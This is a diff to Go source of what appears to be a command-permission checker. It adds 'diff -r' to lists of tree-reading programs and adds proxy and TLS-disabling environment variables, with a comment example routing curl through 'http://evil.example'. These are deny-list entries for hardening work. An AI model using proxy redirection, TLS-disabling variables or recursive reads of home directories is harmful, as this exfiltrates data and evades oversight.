@@ -575,6 +575,7 @@ var recursiveReaders = map[string][]string{
 	"zip": {"-r", "-R", "--recurse-paths"}, "cp": {"-r", "-R", "-a", "--recursive", "--archive"},
 	"rsync": {"-r", "-a", "--recursive", "--archive"}, "scp": {"-r"}, "sftp": {"-r"},
 	"base64": nil, "cat": nil, "strings": nil, "xxd": nil, "od": nil, "hexdump": nil,
+	"diff": {"-r", "-R", "--recursive"}, // diff -r . ~ prints the files of both trees
 }
 
 // readsTrees reports whether prog with args reads whole directories: it
@@ -598,7 +599,7 @@ var outsideTreeReaders = map[string][]string{
 	"tree": nil, "ncdu": nil, "zip": {"-r", "-R", "--recurse-paths"},
 	"grep": {"-r", "-R", "--recursive", "--dereference-recursive", "-d"}, "egrep": {"-r", "-R", "--recursive"}, "fgrep": {"-r", "-R", "--recursive"},
 	"ugrep": {"-r", "-R", "--recursive"}, "ls": {"-R", "--recursive"}, "cp": {"-r", "-R", "-a", "--recursive", "--archive"},
-	"rsync": {"-r", "-a", "--recursive", "--archive"},
+	"rsync": {"-r", "-a", "--recursive", "--archive"}, "diff": {"-r", "-R", "--recursive"},
 }
 
 // readsTreeOutside reports whether a tree reader reads a directory
@@ -800,7 +801,11 @@ var configEnvNames = set("HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CONFIG
 	// where code is fetched from, and whether it is checked
 	"GOPROXY", "GOSUMDB", "GONOSUMDB", "GONOSUMCHECK", "GOINSECURE", "GOTOOLCHAIN", "GOPRIVATE", "GONOPROXY", "GOPATH", "GOCACHE",
 	"GOMODCACHE", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "POETRY_REPOSITORIES",
-	"RUSTUP_TOOLCHAIN", "RUSTUP_HOME", "RUSTUP_DIST_SERVER", "YARN_NPM_REGISTRY_SERVER", "BUNDLE_MIRROR", "GEM_HOME", "GEM_SOURCE")
+	"RUSTUP_TOOLCHAIN", "RUSTUP_HOME", "RUSTUP_DIST_SERVER", "YARN_NPM_REGISTRY_SERVER", "BUNDLE_MIRROR", "GEM_HOME", "GEM_SOURCE",
+	// where requests go, and whom they trust: a proxy sees every request
+	// of an approved command (https_proxy=http://evil.example curl …)
+	"http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy", "ftp_proxy", "FTP_PROXY", "no_proxy", "NO_PROXY",
+	"GIT_SSL_NO_VERIFY", "NODE_TLS_REJECT_UNAUTHORIZED")
 
 // configEnv reports whether the assignments before a command (words that
 // are NAME=value) move where it reads configuration from.
